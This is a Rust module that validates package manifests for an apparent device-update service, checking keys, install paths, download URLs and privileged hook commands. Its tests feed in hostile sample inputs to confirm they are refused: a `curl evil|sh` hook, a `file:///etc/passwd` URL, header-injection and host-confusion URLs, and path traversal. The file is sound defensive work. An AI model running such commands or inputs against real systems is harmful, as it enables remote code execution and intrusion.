//! The `content.json` package manifest of the package API.
//!
//! | key | type | meaning |
//! |---|---|---|
//! | `package` | string, required | package name ([`crate::name`]) |
//! | `version` | string, required | version ([`crate::version`]) |
//! | `sha256` | string, required | SHA-256 of the package file, 64 hex |
//! | `branch` | string | branch; [`DEFAULT_BRANCH`] when absent |
//! | `description`, `local`, `remote`, `BeforeUpdate`, `AfterUpdate`, `restore` | string | as the package API defines them |
//! | `dependencies` | object or array | dependencies |
//!
//! `local` must be an absolute, normalised path (no `.`, `..` or empty
//! components, not `/` itself) and `remote` an `http`/`https` URL without
//! credentials: both reach devices, which act on them. The hook commands
//! (`BeforeUpdate`, `AfterUpdate`, `restore`) are listed by
//! [`Content::hooks`] so the server can decide who may set them.
//!
//! Other keys are kept as they are, so newer clients can add fields.

use crate::hash::Sha256Hex;
use crate::name::check_name;
use crate::version::Version;
use serde_json::{Map, Value};

/// Branch used when a content.json names none.
pub const DEFAULT_BRANCH: &str = "main";
/// Largest accepted content.json, in bytes.
pub const MAX_CONTENT_BYTES: usize = 64 * 1024;
/// Optional keys whose value must be a string.
pub const STRING_FIELDS: [&str; 7] = [
    "branch",
    "description",
    "local",
    "remote",
    "BeforeUpdate",
    "AfterUpdate",
    "restore",
];

/// The keys that decide what a device runs and where it writes: the hook
/// commands and the install location. Setting them takes a key with a
/// `hooks:` scope for the package.
pub const HOOK_FIELDS: [&str; 4] = ["BeforeUpdate", "AfterUpdate", "restore", "local"];

/// A validated content.json.
#[derive(Clone, Debug, PartialEq)]
pub struct Content {
    map: Map<String, Value>,
    version: Version,
    sha256: Sha256Hex,
}

/// Why a content.json was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ContentError {
    /// Larger than [`MAX_CONTENT_BYTES`].
    #[error("content.json is larger than {MAX_CONTENT_BYTES} bytes")]
    TooLarge,
    /// Not JSON, or nested too deeply.
    #[error("content.json is not valid JSON: {0}")]
    Syntax(String),
    /// Valid JSON but not an object.
    #[error("content.json must be a JSON object")]
    NotObject,
    /// A required key is absent.
    #[error("content.json lacks the required key {0:?}")]
    Missing(&'static str),
    /// A key has the wrong type or an invalid value.
    #[error("content.json key {key:?}: {why}")]
    Invalid {
        /// The offending key.
        key: String,
        /// What is wrong with it.
        why: String,
    },
}

fn invalid(key: &str, why: impl Into<String>) -> ContentError {
    ContentError::Invalid {
        key: key.to_owned(),
        why: why.into(),
    }
}

impl Content {
    /// Parses and validates raw bytes (size-checked before parsing).
    pub fn from_slice(bytes: &[u8]) -> Result<Self, ContentError> {
        if bytes.len() > MAX_CONTENT_BYTES {
            return Err(ContentError::TooLarge);
        }
        // serde_json refuses nesting deeper than 128 levels, which bounds
        // the stack; the size check bounds everything else.
        let value: Value =
            serde_json::from_slice(bytes).map_err(|e| ContentError::Syntax(e.to_string()))?;
        Self::from_value(value)
    }

    /// Validates a parsed value; fills `branch` with [`DEFAULT_BRANCH`] if absent.
    pub fn from_value(value: Value) -> Result<Self, ContentError> {
        let Value::Object(mut map) = value else {
            return Err(ContentError::NotObject);
        };
        let required =
            |map: &Map<String, Value>, key: &'static str| -> Result<String, ContentError> {
                match map.get(key) {
                    None | Some(Value::Null) => Err(ContentError::Missing(key)),
                    Some(Value::String(s)) => Ok(s.clone()),
                    Some(_) => Err(invalid(key, "must be a string")),
                }
            };
        // A key equal to a defined one but for case is refused: a device
        // that matched keys loosely would act on it.
        for key in map.keys() {
            if let Some(known) = ["package", "version", "sha256", "dependencies"]
                .iter()
                .chain(STRING_FIELDS.iter())
                .find(|k| k.eq_ignore_ascii_case(key) && **k != key.as_str())
            {
                return Err(invalid(
                    key,
                    format!("did you mean {known:?}? (keys are case-sensitive)"),
                ));
            }
        }
        let package = required(&map, "package")?;
        check_name("package", &package).map_err(|e| invalid("package", e.to_string()))?;
        let version = Version::parse(&required(&map, "version")?)
            .map_err(|e| invalid("version", e.to_string()))?;
        let sha256 = Sha256Hex::parse(&required(&map, "sha256")?)
            .map_err(|e| invalid("sha256", e.to_string()))?;
        map.insert("sha256".into(), Value::String(sha256.to_string()));
        for key in STRING_FIELDS {
            match map.get(key) {
                None | Some(Value::String(_)) => {}
                Some(_) => return Err(invalid(key, "must be a string")),
            }
        }
        match map.get("branch") {
            Some(Value::String(b)) => {
                check_name("branch", b).map_err(|e| invalid("branch", e.to_string()))?
            }
            _ => {
                map.insert("branch".into(), Value::String(DEFAULT_BRANCH.into()));
            }
        }
        if let Some(Value::String(local)) = map.get("local") {
            check_local(local).map_err(|why| invalid("local", why))?;
        }
        if let Some(Value::String(remote)) = map.get("remote") {
            check_remote(remote).map_err(|why| invalid("remote", why))?;
        }
        match map.get("dependencies") {
            None | Some(Value::Object(_)) | Some(Value::Array(_)) => {}
            Some(_) => return Err(invalid("dependencies", "must be an object or an array")),
        }
        Ok(Content {
            map,
            version,
            sha256,
        })
    }

    /// The package name.
    pub fn package(&self) -> &str {
        self.str_field("package")
    }
    /// The branch (never empty after validation).
    pub fn branch(&self) -> &str {
        self.str_field("branch")
    }
    /// The parsed version.
    pub fn version(&self) -> &Version {
        &self.version
    }
    /// The declared SHA-256 of the package file.
    pub fn sha256(&self) -> &Sha256Hex {
        &self.sha256
    }
    /// The `remote` download URL, if set.
    pub fn remote(&self) -> Option<&str> {
        self.map.get("remote").and_then(Value::as_str)
    }
    /// The privileged keys present with a non-empty value ([`HOOK_FIELDS`]).
    pub fn hooks(&self) -> Vec<&'static str> {
        HOOK_FIELDS
            .into_iter()
            .filter(|k| !self.str_field(k).trim().is_empty())
            .collect()
    }
    /// The manifest as a JSON object.
    pub fn as_map(&self) -> &Map<String, Value> {
        &self.map
    }
    /// Compact JSON text, as stored and served.
    pub fn to_json(&self) -> String {
        // Serialising a Map of Values cannot fail.
        serde_json::to_string(&self.map).unwrap_or_default()
    }

    fn str_field(&self, key: &str) -> &str {
        self.map
            .get(key)
            .and_then(Value::as_str)
            .unwrap_or_default()
    }
}

/// Checks an install location: absolute and normalised, so a device never
/// resolves it against its working directory or climbs out of it.
pub fn check_local(path: &str) -> Result<(), String> {
    if !path.starts_with('/') {
        return Err(format!("{path:?} must be an absolute path"));
    }
    if path.chars().any(char::is_control) {
        return Err("must not contain control characters".into());
    }
    if path == "/" {
        return Err("must not be the root directory".into());
    }
    let rest = path.strip_prefix('/').unwrap_or(path);
    for part in rest.split('/') {
        match part {
            "" => {
                return Err(format!(
                    "{path:?} has an empty component (// or a trailing /)"
                ))
            }
            "." | ".." => return Err(format!("{path:?} must be normalised (no . or ..)")),
            _ => {}
        }
    }
    Ok(())
}

/// Checks a download URL: `http` or `https`, with a host, without
/// credentials (devices would send them to whoever serves the URL).
pub fn check_remote(remote: &str) -> Result<(), String> {
    // Parsers differ on these (a URL library may drop or re-read them, a
    // device's may not), so they are refused rather than normalised.
    if remote
        .chars()
        .any(|c| c.is_control() || c.is_whitespace() || c == '\\')
    {
        return Err("must not contain spaces, control characters or backslashes".into());
    }
    if remote
        .split_once("://")
        .is_none_or(|(_, rest)| rest.starts_with('/') || rest.is_empty())
    {
        return Err(format!(
            "{remote:?} must be an http:// or https:// URL with a host"
        ));
    }
    let url = url::Url::parse(remote).map_err(|e| format!("{remote:?} is not a URL: {e}"))?;
    if !matches!(url.scheme(), "http" | "https") {
        return Err(format!("{remote:?} must be an http:// or https:// URL"));
    }
    if url.host_str().is_none_or(str::is_empty) {
        return Err(format!("{remote:?} has no host"));
    }
    if !url.username().is_empty() || url.password().is_some() {
        return Err("must not carry credentials".into());
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const H: &str = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";

    fn parse(s: &str) -> Result<Content, ContentError> {
        Content::from_slice(s.as_bytes())
    }

    #[test]
    fn valid_minimal_and_defaults() {
        let c = parse(&format!(
            r#"{{"package":"app","version":"1.2.3","sha256":"{}"}}"#,
            H.to_uppercase()
        ))
        .unwrap();
        assert_eq!(c.package(), "app");
        assert_eq!(c.branch(), DEFAULT_BRANCH);
        assert_eq!(c.sha256().as_str(), H);
        assert_eq!(c.version().as_str(), "1.2.3");
        assert_eq!(c.remote(), None);
        assert!(c.hooks().is_empty());
    }

    #[test]
    fn keeps_unknown_and_checks_types() {
        let c = parse(&format!(
            r#"{{"package":"app","version":"1","sha256":"{H}","x-extra":[1,2],"dependencies":{{"libc":"2"}},"BeforeUpdate":"systemctl stop app"}}"#
        ))
        .unwrap();
        assert!(c.as_map().contains_key("x-extra"));
        assert_eq!(c.hooks(), ["BeforeUpdate"]);
        let located = parse(&format!(
            r#"{{"package":"app","version":"1","sha256":"{H}","local":"/opt/app"}}"#
        ))
        .unwrap();
        assert_eq!(
            located.hooks(),
            ["local"],
            "the install location is privileged"
        );
        let ok = parse(&format!(
            r#"{{"package":"app","version":"1","sha256":"{H}","local":"/opt/app","remote":"https://cdn.example.com/a?b=1"}}"#
        ))
        .unwrap();
        assert_eq!(ok.remote(), Some("https://cdn.example.com/a?b=1"));
        for (key, val) in [
            ("description", "1"),
            ("remote", "{}"),
            ("dependencies", "\"libc\""),
            ("AfterUpdate", "[]"),
            ("branch", "\"../x\""),
            ("version", "\"1.x\""),
            ("package", "\"a/b\""),
            ("sha256", "\"abc\""),
            ("local", "\"opt/app\""),
            ("local", "\"/opt/../etc\""),
            ("local", "\"/opt//app\""),
            ("local", "\"/opt/app/\""),
            ("local", "\"/\""),
            ("local", "\"/opt/a\\nb\""),
            ("remote", "\"file:///etc/passwd\""),
            ("remote", "\"ftp://h/x\""),
            ("remote", "\"https://user:pw@h/x\""),
            ("remote", "\"not a url\""),
            ("remote", "\"http://h/a\\r\\nX: y\""),
            ("remote", "\"http://evil.com\\\\@good.com/x\""),
            ("remote", "\"http:///x\""),
            ("Beforeupdate", "\"curl evil|sh\""),
            ("RESTORE", "\"x\""),
        ] {
            let mut m: Map<String, Value> = serde_json::from_str(&format!(
                r#"{{"package":"app","version":"1","sha256":"{H}"}}"#
            ))
            .unwrap();
            m.insert(key.into(), serde_json::from_str(val).unwrap());
            let err = Content::from_value(Value::Object(m)).unwrap_err();
            assert!(matches!(err, ContentError::Invalid { .. }), "{key}: {err}");
        }
    }

    #[test]
    fn refuses_malformed() {
        assert_eq!(parse("[]").unwrap_err(), ContentError::NotObject);
        assert!(matches!(parse("{").unwrap_err(), ContentError::Syntax(_)));
        assert_eq!(
            parse(r#"{"version":"1","sha256":"x"}"#).unwrap_err(),
            ContentError::Missing("package")
        );
        let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
        assert!(matches!(parse(&deep).unwrap_err(), ContentError::Syntax(_)));
        let huge = format!(r#"{{"package":"{}"}}"#, "a".repeat(MAX_CONTENT_BYTES));
        assert_eq!(parse(&huge).unwrap_err(), ContentError::TooLarge);
    }
}
